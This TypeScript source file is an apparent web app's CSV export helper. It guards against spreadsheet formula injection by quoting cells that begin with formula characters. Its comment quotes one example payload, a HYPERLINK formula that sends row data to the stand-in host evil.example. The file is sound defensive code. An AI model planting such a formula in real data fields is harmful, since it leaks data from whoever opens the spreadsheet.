// The one way Caravel writes CSV files (the bookings export, the invoice book): UTF-8 with a
// BOM, a header row, and every text cell made safe to open in a spreadsheet.
//
// A cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is a
// formula to Excel, LibreOffice and Google Sheets: a portal visitor who names themself
// `=HYPERLINK("https://evil.example/?"&A1,"open")` would otherwise become a live link in staff's
// spreadsheet that sends the row's data away (CSV injection, OWASP). Such a cell is written
// with a single quote in front, which spreadsheets show as text and do not evaluate. Numbers
// stay as they are, whether written as numbers or as decimal text such as "-125.50" (a credit
// note's amount): a spreadsheet reads them as numbers, never as formulas.
import { type Stringifier, stringify } from 'csv-stringify';

/** Characters that make a spreadsheet cell a formula (or hide one) when they come first. */
const formulaStart = /^[=+\-@\t\r]/;
/** A plain decimal number: "12", "-125.50", "+3", "0.05". */
const plainNumber = /^[+-]?\d+(\.\d+)?$/;

/** A text cell as a spreadsheet must read it: a leading formula character is quoted away. */
export function spreadsheetSafe(value: string): string {
  if (!formulaStart.test(value) || plainNumber.test(value)) return value;
  return `'${value}`;
}

/**
 * A CSV stream with a BOM (spreadsheet programs then read the diacritics right) and the
 * header row; write records as arrays in the headers' order. Every string cell goes through
 * `spreadsheetSafe`; numbers, booleans and empty cells are written as they are.
 */
export function csvWriter(headers: string[]): Stringifier {
  return stringify({
    bom: true,
    header: true,
    columns: headers,
    cast: { string: (value) => spreadsheetSafe(value) },
  });
}
